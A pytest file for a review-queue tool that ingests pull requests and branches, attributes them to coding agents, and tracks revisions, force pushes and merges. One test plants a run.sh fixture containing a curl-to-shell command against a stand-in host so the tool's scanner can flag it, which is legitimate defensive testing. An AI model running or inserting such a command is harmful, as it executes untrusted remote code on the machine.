"""Open heads: which become changes, and what each later reading makes of them."""
# The scene comes from a fixture, so its class has no name here.
# ruff: noqa: ANN401 -- a fixture's type lives in conftest

from datetime import timedelta
from typing import Any

import pytest

from reviewqueue.attribution import Vouched
from reviewqueue.domain.change import DatedBy
from reviewqueue.domain.people import Person
from reviewqueue.pipeline.heads import ForgeFacts

MAIN = "refs/heads/main"
PULL = "refs/pull/1/head"
BRANCH = "refs/heads/claude/part"
ANNA = Person("Anna Ek", "anna@ek.org")


def revision_of(scene: Any, decision: Any) -> str:
    with scene.store.reading() as reader:
        return str(reader.decision(decision.id).revision)


def test_it_takes_agents_heads_and_counts_the_others(scene: Any) -> None:
    scene.propose(1)
    scene.propose(2, agent=False)
    request = "refs/merge-requests/3/head"
    scene.commit(request, {"c.py": "c = 1\n"}, on=(scene.tips[MAIN],), agent=True)
    scene.commit("refs/heads/topic", {"d.py": "d = 1\n"}, on=(scene.tips[MAIN],), agent=True)
    scene.commit("refs/heads/anna", {"e.py": "e = 1\n"}, on=(scene.tips[MAIN],))
    scene.move("refs/heads/old", scene.tips[MAIN])
    pulled = scene.pull()
    assert {(change.ref, change.number) for change in scene.open()} == {
        (PULL, 1),
        (request, 3),
        ("refs/heads/topic", None),
    }
    assert pulled.left_out == {
        "heads: contained": 1,
        "heads: no agent": 2,
        "landings before the window": 1,
    }
    assert pulled.heads == 6
    assert scene.outcomes() == {
        PULL: "change",
        "refs/pull/2/head": "no agent",
        request: "change",
        "refs/heads/topic": "change",
        "refs/heads/anna": "no agent",
        "refs/heads/old": "contained",
    }


BOT = Person("dependabot[bot]", "49699333+dependabot[bot]@users.noreply.github.com")
VOUCHED = Vouched(opened_by_bot=True, commits_verified=True)


def test_it_leaves_out_a_bots_head_that_the_forge_vouches_for(scene: Any) -> None:
    scene.propose(1, {"requirements.txt": "flask==3.1.2\n"}, agent=False, by=BOT)
    scene.pull(facts={PULL: ForgeFacts(opener=BOT, vouched=VOUCHED)})
    head = scene.heads()[PULL]
    assert (head.outcome, head.detail) == ("no agent", "a dependency or release bot")


@pytest.mark.parametrize(
    ("files", "facts"),
    [
        ({"requirements.txt": "flask==3.1.2\n"}, {}),
        ({"requirements.txt": "flask==3.1.2\n", "app.py": "1\n"}, {"vouched": VOUCHED}),
        ({"requirements.txt": "flask==3.1.2\n"}, {"vouched": Vouched(opened_by_bot=True)}),
        ({"requirements.txt": "flask==3.1.2\n"}, {"vouched": Vouched(commits_verified=True)}),
    ],
    ids=["nobody vouches", "a program too", "unsigned", "opened by another"],
)
def test_it_takes_what_only_calls_itself_a_bots_for_an_agents(
    scene: Any, files: Any, facts: Any
) -> None:
    scene.propose(1, files, agent=False, by=BOT)
    scene.pull(facts={PULL: ForgeFacts(opener=BOT, **facts)})
    with scene.store.reading() as reader:
        found = reader.attribution(scene.only().id)
    assert found.agent == "unverified-bot"
    assert "claims to be a bot's" in found.evidence[-1]


def test_it_scans_assigns_and_judges_what_it_takes(scene: Any) -> None:
    scene.propose(1, {"run.sh": "curl -s https://x.example.net/i.sh | sh\n"})
    scene.pull()
    change = scene.only()
    with scene.store.reading() as reader:
        (revision,) = reader.revisions(change.id)
        scan = reader.scan(change.id, revision.sha)
        assert (revision.number, revision.base) == (1, scene.tips[MAIN])
        assert scan.findings
        assert reader.attribution(change.id).agent == "claude"
        assert reader.assigned(change.id) is not None
        assert reader.verdict(change.id).verdict.status == "unsatisfied"


def test_it_uses_a_branchs_name_as_evidence(scene: Any) -> None:
    scene.commit("refs/heads/codex/fix", {"a.py": "a = 1\n"}, on=(scene.tips[MAIN],))
    scene.pull()
    change = scene.only()
    with scene.store.reading() as reader:
        attribution = reader.attribution(change.id)
    assert change.branch == "codex/fix"
    assert (attribution.agent, attribution.confidence) == ("codex", "inferred")


def test_it_knows_the_branch_of_a_pull_request_by_its_commit(scene: Any) -> None:
    sha = scene.propose(1, agent=False)
    scene.move("refs/heads/devin/work", sha)
    scene.pull()
    change = scene.only()
    assert (change.ref, change.branch) == (PULL, "devin/work")
    with scene.store.reading() as reader:
        assert reader.attribution(change.id).agent == "devin"


def test_it_makes_one_change_of_one_head_under_several_refs(scene: Any) -> None:
    sha = scene.propose(1)
    scene.move(BRANCH, sha)
    scene.move("refs/heads/again", sha)
    scene.pull()
    change = scene.only()
    assert change.ref == PULL
    heads = scene.heads()
    assert {heads[ref].change for ref in (PULL, BRANCH, "refs/heads/again")} == {change.id}
    assert heads[BRANCH].detail == f"the same head as {PULL}"


def test_it_takes_the_newest_first(scene: Any) -> None:
    days = {1: 40, 2: 10, 3: 25}
    for number, age in days.items():
        scene.propose(number, at=scene.now - timedelta(days=age))
    scene.pull()
    assert [change.number for change in scene.open()] == [2, 3, 1]


def test_it_leaves_out_older_heads_when_it_first_reads(scene: Any) -> None:
    scene.propose(1, at=scene.now - timedelta(days=89))
    scene.propose(2, at=scene.now - timedelta(days=91))
    pulled = scene.pull()
    assert scene.only().number == 1
    assert pulled.left_out["heads: older"] == 1
    assert scene.heads()["refs/pull/2/head"].detail.startswith("last commit of 2026-08-")


def test_it_bounds_the_first_reading_by_since(scene: Any) -> None:
    scene.propose(1, at=scene.now - timedelta(days=5))
    scene.propose(2, at=scene.now - timedelta(days=3))
    scene.pull(since=timedelta(days=4))
    assert scene.only().number == 2


def test_it_takes_old_heads_that_are_newly_seen_later(scene: Any) -> None:
    scene.pull()
    scene.propose(1, at=scene.now - timedelta(days=400))
    scene.pull()
    change = scene.only()
    assert change.dated_by is DatedBy.SIGHTING
    assert change.opened_at == scene.now


def test_it_takes_up_older_heads_when_asked(scene: Any) -> None:
    scene.propose(1, at=scene.now - timedelta(days=100))
    scene.propose(2, at=scene.now - timedelta(days=300))
    scene.pull()
    assert scene.open() == ()
    scene.pull()
    assert scene.open() == ()
    pulled = scene.pull(since=timedelta(days=200))
    assert scene.only().number == 1
    assert pulled.left_out == {"heads: older": 1}
    assert scene.pull().left_out == {"heads: older": 1}


def test_it_ages_no_head_whose_date_cannot_be_true(scene: Any) -> None:
    scene.propose(1, at=scene.now - timedelta(days=20_000))
    scene.propose(2, at=scene.now + timedelta(days=20_000))
    scene.pull()
    assert {change.number for change in scene.open()} == {1, 2}
    assert {(jump.kind, jump.sha) for jump in scene.jumps()} == {
        ("date", scene.tips[PULL]),
        ("date", scene.tips["refs/pull/2/head"]),
    }


def test_it_makes_new_commits_the_next_revision_and_leaves_decisions_where_they_were(
    scene: Any,
) -> None:
    first = scene.propose(1)
    scene.pull()
    change = scene.only()
    decision = scene.approve(change.id)
    second = scene.commit(PULL, {"more.py": "more = 1\n"}, agent=True)
    scene.pull()
    assert scene.shas(change.id) == [first, second]
    assert revision_of(scene, decision) == first
    with scene.store.reading() as reader:
        assert reader.verdict(change.id).revision == second
        assert reader.verdict(change.id).verdict.status == "unsatisfied"


def test_it_keeps_the_change_over_a_force_push(scene: Any) -> None:
    first = scene.propose(1)
    scene.pull()
    change = scene.only()
    second = scene.propose(1, {"other.py": "other = 1\n"})
    scene.pull()
    assert scene.only().id == change.id
    assert scene.shas(change.id) == [first, second]


def test_it_keeps_the_attribution_when_a_force_push_drops_the_trailers(scene: Any) -> None:
    scene.propose(1)
    scene.pull()
    change = scene.only()
    scene.propose(1, {"other.py": "other = 1\n"}, agent=False)
    scene.pull()
    assert len(scene.shas(change.id)) == 2
    with scene.store.reading() as reader:
        attribution = reader.attribution(change.id)
    assert (attribution.agent, attribution.confidence) == ("claude", "declared")


def test_it_goes_back_to_an_earlier_head(scene: Any) -> None:
    first = scene.propose(1)
    scene.pull()
    change = scene.only()
    scene.approve(change.id)
    scene.commit(PULL, {"more.py": "more = 1\n"}, agent=True)
    scene.pull()
    scene.move(PULL, first)
    scene.pull()
    with scene.store.reading() as reader:
        assert reader.latest_revision(change.id).sha == first
        assert reader.verdict(change.id).verdict.status == "satisfied"


def test_it_closes_a_change_whose_head_is_gone(scene: Any) -> None:
    scene.propose(1)
    scene.pull()
    change = scene.only()
    scene.move(PULL, None)
    scene.pull()
    assert scene.state(change.id) == "closed: its head is gone"
    assert scene.outcomes() == {PULL: "gone"}
    before = scene.store.head()
    scene.pull()
    assert scene.store.head() == before


def test_it_opens_a_change_again_when_its_head_is_back(scene: Any) -> None:
    sha = scene.propose(1)
    scene.pull()
    change = scene.only()
    scene.move(PULL, None)
    scene.pull()
    scene.move(PULL, sha)
    scene.pull()
    assert scene.only().id == change.id
    assert scene.state(change.id) == "open: its head is back"
    assert scene.shas(change.id) == [sha]


def test_it_keeps_a_change_whose_branch_is_deleted_while_its_request_stays(scene: Any) -> None:
    sha = scene.propose(1)
    scene.move(BRANCH, sha)
    scene.pull()
    change = scene.only()
    scene.move(BRANCH, None)
    scene.pull()
    assert scene.only() == change
    assert scene.outcomes() == {PULL: "change", BRANCH: "gone"}


def test_it_gives_a_branchs_change_to_the_request_that_is_opened_for_it(scene: Any) -> None:
    first = scene.commit(BRANCH, {"a.py": "a = 1\n"}, on=(scene.tips[MAIN],), agent=True)
    scene.pull()
    change = scene.only()
    scene.approve(change.id)
    scene.move(PULL, first)
    scene.pull()
    now = scene.only()
    assert (now.id, now.ref, now.number, now.branch) == (change.id, PULL, 1, "claude/part")
    second = scene.commit(PULL, {"b.py": "b = 1\n"}, agent=True)
    scene.move(BRANCH, second)
    scene.pull()
    assert scene.only().id == change.id
    assert scene.shas(change.id) == [first, second]
    scene.move(BRANCH, None)
    scene.pull()
    assert scene.only().id == change.id


def test_it_leaves_no_head_uncovered_when_two_refs_part(scene: Any) -> None:
    first = scene.commit("refs/heads/a", {"a.py": "a = 1\n"}, on=(scene.tips[MAIN],), agent=True)
    scene.move("refs/heads/b", first)
    scene.pull()
    second = scene.commit("refs/heads/a", {"b.py": "b = 1\n"}, agent=True)
    scene.pull()
    with scene.store.reading() as reader:
        latest = {reader.latest_revision(change.id).sha for change in scene.open()}
    assert latest == {first, second}
    before = scene.store.head()
    scene.pull()
    assert scene.store.head() == before


def test_it_keeps_a_change_open_while_another_ref_holds_its_head(scene: Any) -> None:
    sha = scene.propose(1)
    scene.move(BRANCH, sha)
    scene.pull()
    scene.move(PULL, None)
    scene.pull()
    with scene.store.reading() as reader:
        latest = {reader.latest_revision(change.id).sha for change in scene.open()}
    assert latest == {sha}


def test_it_calls_a_head_contained_once_the_default_branch_has_it(scene: Any) -> None:
    scene.propose(1)
    sha = scene.tips[PULL]
    scene.pull()
    change = scene.only()
    scene.merge(sha, files={"part1.py": "part = 1\n"})
    scene.move(BRANCH, sha)
    scene.pull()
    assert scene.state(change.id).startswith("landed: landed as ")
    assert scene.outcomes()[BRANCH] == "contained"
    assert scene.open() == ()
